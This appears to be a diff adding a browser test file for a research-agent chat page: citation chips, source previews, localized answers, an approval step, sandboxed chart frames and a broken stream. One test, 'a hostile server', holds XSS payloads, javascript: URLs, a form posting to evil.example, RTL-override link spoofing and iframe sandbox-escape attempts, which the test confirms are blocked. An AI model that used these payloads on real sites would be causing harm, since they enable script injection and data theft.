@@ -1,0 +1,188 @@
+// The research agent in the page: steps, citations that resolve late, their preview and list, a chart in its place; an approval; and a server
+// whose charts and sources try to get out.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { axe, close, expectClean, open, picture, say, serve, status, turn } from "./harness.mjs";
+
+let server;
+before(async () => (server = await serve("--delay", "1")));
+after(async () => {
+  await close();
+  await server?.stop();
+});
+
+const QUERY = "?protocol=genos&api=/genos/chat/stream";
+const frame = (event, data) => `data: ${JSON.stringify({ event, data })}\n\n`;
+const state = (urls, charts = {}, pages = {}) => frame("tool_state", { id_to_url: urls, id_to_iframe: charts, url_to_page: pages, current_url: null, tool_results: {} });
+
+/** A page whose research agent answers with exactly this body. */
+async function answering(body, options = {}) {
+  const page = await open(null, { reducedMotion: "reduce", ...options });
+  await page.route((url) => url.pathname === "/genos/chat/stream", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body }));
+  await page.goto(`${server.origin}/${QUERY}`);
+  await status(page, "ready");
+  return page;
+}
+
+for (const [locale, question, sources, kept] of [
+  ["ko-KR", "파이썬은 언제 시작됐고, 지금 얼마나 쓰이나요? 출처와 함께 알려줘", /출처 \(4\)/, "【참고】"],
+  ["en-US", "When did Python begin, and how much is it used today? Tell me with sources", /Sources \(4\)/, "【Note】"],
+  ["zh-CN", "Python 是什么时候诞生的，现在使用率有多高？请附上来源", /来源（4）/, "【注意】"],
+]) {
+  test(`a research answer in ${locale}`, { timeout: 60000 }, async () => {
+    const page = await open(null, { reducedMotion: "reduce", locale });
+    // No frame may show half of a marker.
+    await page.addInitScript(() => {
+      window.raw = [];
+      new MutationObserver(() => {
+        for (const prose of document.querySelectorAll(".ps-prose")) if (/†|【\d/.test(prose.textContent)) window.raw.push(prose.textContent);
+      }).observe(document, { childList: true, subtree: true, characterData: true });
+    });
+    await page.goto(`${server.origin}/${QUERY}`);
+    await status(page, "ready");
+    await say(page, question);
+    const answer = page.locator("article").last();
+    assert.deepEqual(await page.evaluate(() => window.raw), []);
+    const text = await answer.textContent();
+    assert.ok(text.includes(kept), "an ordinary bracket stays");
+    assert.match(text, sources);
+    assert.deepEqual(await answer.locator(".ps-prose .ps-cite").allTextContents(), ["1", "2", "3", "1", "4", "4", "4"]);
+    const steps = answer.locator(".ps-trail");
+    assert.equal(await steps.evaluate((steps) => steps.open), false, "steps close when the answer begins");
+    await steps.locator("summary").click();
+    assert.equal(await steps.locator("li").count(), 5);
+    await answer.locator(".ps-chart-mark canvas, .ps-chart-mark svg").first().waitFor();
+    await axe(page, `research in ${locale}`);
+    await picture(page, `genos-${locale}`);
+    expectClean(page);
+  });
+}
+
+test("a source by pointer and by keyboard, and as a footnote", { timeout: 60000 }, async () => {
+  const page = await open(null, { reducedMotion: "reduce", permissions: ["clipboard-read", "clipboard-write"] });
+  await page.goto(`${server.origin}/${QUERY}`);
+  await status(page, "ready");
+  await say(page, "When did Python begin? Tell me with sources");
+  const chip = page.locator(".ps-cite").first();
+  const card = page.locator("#ps-preview");
+  assert.equal(await chip.getAttribute("aria-label"), "Source 1: Python (programming language) - Wikipedia, en.wikipedia.org");
+  assert.equal(await chip.getAttribute("rel"), "noopener noreferrer");
+  await chip.hover();
+  await card.waitFor({ state: "visible" });
+  assert.match(await card.textContent(), /First appeared: 20 February 1991/);
+  await card.hover();
+  await page.waitForTimeout(400);
+  assert.ok(await card.isVisible(), "it stays while it is pointed at");
+  await page.keyboard.press("Escape");
+  await card.waitFor({ state: "hidden" });
+  await page.mouse.move(0, 0);
+  await page.locator(".ps-trail summary").focus();
+  await page.keyboard.press("Tab");
+  assert.ok(await chip.evaluate((chip) => chip === document.activeElement), "the keyboard reaches the chip");
+  await card.waitFor({ state: "visible" });
+  assert.equal(await chip.getAttribute("aria-describedby"), "ps-preview");
+  await axe(page, "a preview");
+  await page.keyboard.press("Escape");
+  await card.waitFor({ state: "hidden" });
+  await page.locator("article").last().getByRole("button", { name: "Copy" }).first().click();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  assert.match(copied, /20 February 1991\[1\]/);
+  assert.match(copied, /\n\[4\] Developer Survey – https:\/\/survey\.stackoverflow\.co\/2025\/technology$/);
+  assert.ok(!copied.includes("†"));
+
+  // What was cited is still there after a reload.
+  await page.reload();
+  await status(page, "ready", "done");
+  await page.locator(".ps-cite").first().waitFor();
+  assert.deepEqual(await page.locator(".ps-prose .ps-cite").allTextContents(), ["1", "2", "3", "1", "4", "4", "4"]);
+  expectClean(page);
+});
+
+test("a workflow that stops for a person", { timeout: 60000 }, async () => {
+  const page = await open(null, { reducedMotion: "reduce" });
+  await page.goto(`${server.origin}/${QUERY}`);
+  await status(page, "ready");
+  const bodies = [];
+  page.on("request", (request) => request.method() === "POST" && request.url().includes("/genos/") && bodies.push(request.postDataJSON()));
+  await say(page, "Mail this report to the team");
+  const seal = page.locator(".ps-seal");
+  await seal.waitFor();
+  await page.waitForTimeout(600);
+  await turn(page, () => seal.locator("button").last().click());
+  assert.match(await page.locator("article").last().textContent(), /Sent to the team\.|I did not send it/);
+  assert.equal(bodies.length, 2);
+  assert.equal(bodies[0].chatId, bodies[1].chatId);
+  assert.equal(bodies[1].humanInput.startNodeId, "humanInputAgentflow_en");
+  expectClean(page);
+});
+
+test("a document draws in a frame without an origin and says how tall it is", { timeout: 60000 }, async () => {
+  const html = "<!DOCTYPE html><body><div id=c>bars</div><script>document.getElementById('c').textContent='drawn '+self.origin;parent.postMessage({type:'chart-resize',height:260},'*')</script></body>";
+  const page = await answering(state({}, { "0†chart": html, "1†chart": "https://charts.example/1" }) + frame("token", "A【0†chart】B【1†chart】C【0†chart】") + frame("result", null));
+  await say(page, "chart");
+  const inside = page.frameLocator(".ps-frame iframe");
+  await inside.locator("#c").getByText("drawn null").waitFor();
+  await page.waitForFunction(() => document.querySelector(".ps-frame-box").getBoundingClientRect().height < 300);
+  const attributes = await page.locator(".ps-frame iframe").evaluate((frame) => Object.fromEntries([...frame.attributes].map((a) => [a.name, a.value])));
+  assert.equal(attributes.sandbox, "allow-scripts");
+  assert.equal(attributes.referrerpolicy, "no-referrer");
+  assert.equal(await page.locator(".ps-frame-card a").getAttribute("href"), "https://charts.example/1", "an origin that isn't listed is a link");
+  assert.equal(await page.locator(".ps-frame-again").count(), 1, "the second mention leads to the first");
+  await page.waitForTimeout(200);
+  await axe(page, "charts of others");
+  expectClean(page);
+});
+
+test("a hostile server", { timeout: 60000 }, async () => {
+  const escape = `<!DOCTYPE html><title>evil</title><script>
+    const tries = [() => (top.document.title = "pwned"), () => (parent.document.title = "pwned"), () => parent.pwned(), () => (top.location = "https://evil.example/"), () => open("https://evil.example/"),
+      () => localStorage.setItem("a", "b"), () => document.cookie, () => parent.localStorage, () => alert(1)];
+    for (const attempt of tries) try { attempt(); } catch {}
+    for (const height of [1e9, -5, NaN, "9"]) parent.postMessage({ type: "chart-resize", height }, "*");
+    parent.postMessage({ type: "chart-waiting" }, "*");
+  </script><form action="https://evil.example/" method=post><input name=a></form><script>try { document.forms[0].submit(); } catch {}</script>`;
+  const urls = { "0:0": "javascript:document.title='pwned'", "0:1": "data:text/html,<script>1</script>", "0:2": "https://a.example/\u202Egpj.exe", "0:3": "https://user:pw@b.example/", "0:4": "https://ok.example/" };
+  const charts = { "0†chart": escape, "1†chart": "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>", "2†chart": JSON.stringify({ title: { text: "<img src=x onerror=alert(1)>", link: "javascript:alert(1)" }, tooltip: { formatter: "<img src=x onerror=alert(1)>" }, series: [{ type: "bar", name: "<b>a</b>", symbol: "image://https://evil.example/x.png", data: [1, 2] }] }), "3†chart": "<iframe srcdoc=\"&lt;script&gt;parent.document.title='pwned'&lt;/script&gt;\"></iframe>" };
+  const body = state(urls, charts)
+    + frame("agentFlowExecutedData", { nodeLabel: "x", data: { output: { content: JSON.stringify({ visible_url: "javascript:document.title='pwned'" }) } } })
+    + frame("token", "x【0:0】【0:1†\u202Eevil†\u202Esite】【0:2】【0:3】【0:4†\u202E<img src=x onerror=document.title='pwned'>†o\u2066k】<img src=x onerror=alert(1)>\n\n【0†chart】\n\n【1†chart】\n\n【2†chart】\n\n【3†chart】\n\n【0:4†cut")
+    + "data: {broken\n\n" + frame("result", null);
+  const page = await answering(body);
+  const asked = [];
+  page.context().on("request", (request) => /evil|example/.test(new URL(request.url()).hostname) && asked.push(request.url()));
+  let opened = 0;
+  page.context().on("page", () => (opened += 1));
+  page.on("dialog", (dialog) => { asked.push("dialog"); dialog.dismiss(); });
+  await say(page, "go");
+  const title = await page.title();
+  await page.locator(".ps-frame iframe").first().waitFor();
+  await page.locator(".ps-frame iframe").last().scrollIntoViewIfNeeded();
+  await page.waitForTimeout(1500);
+  assert.equal(await page.title(), title);
+  assert.ok(!/pwned|evil/.test(title));
+  assert.deepEqual(asked, []);
+  assert.equal(opened, 0);
+  assert.equal(page.url().startsWith(server.origin), true);
+  assert.equal(await page.evaluate(() => localStorage.getItem("a")), null);
+  for (const height of await page.locator(".ps-frame-box").evaluateAll((boxes) => boxes.map((box) => box.getBoundingClientRect().height))) assert.ok(height <= 1600);
+  const links = await page.locator("article a").evaluateAll((links) => links.map((link) => link.href));
+  assert.ok(links.length > 0 && links.every((href) => href.startsWith("https://")), links.join(" "));
+  assert.deepEqual(await page.locator(".ps-cite").allTextContents(), ["1", "2"]);
+  const label = await page.locator(".ps-cite").last().getAttribute("aria-label");
+  assert.ok(!/[\u202A-\u202E\u2066-\u2069]/.test(label), "what turns text around is made visible");
+  assert.ok(!(await page.locator("article").last().textContent()).includes("†"));
+  // What the frame was refused is told in its own name; nothing of ours was.
+  expectClean(page, /sandboxed|Blocked|chart-frame\.html|about:srcdoc/);
+});
+
+test("what a connection that breaks off leaves behind", { timeout: 60000 }, async () => {
+  const page = await answering(state({ "0:0": "https://a.example/" }) + frame("token", "kept【0:0】 and half【0:0†ti"));
+  await say(page, "go");
+  const text = await page.locator("article").last().textContent();
+  assert.match(text, /kept.*1 and half/);
+  assert.ok(!text.includes("【"));
+  assert.match(await page.locator("main").textContent(), /connection|broke off/i);
+  const refused = await answering('{"code":1,"error_code":"00020003","errMsg":"No such workflow"}');
+  await say(refused, "go").catch(() => status(refused, "error"));
+  assert.match(await refused.locator("main").textContent(), /No such workflow/);
+});
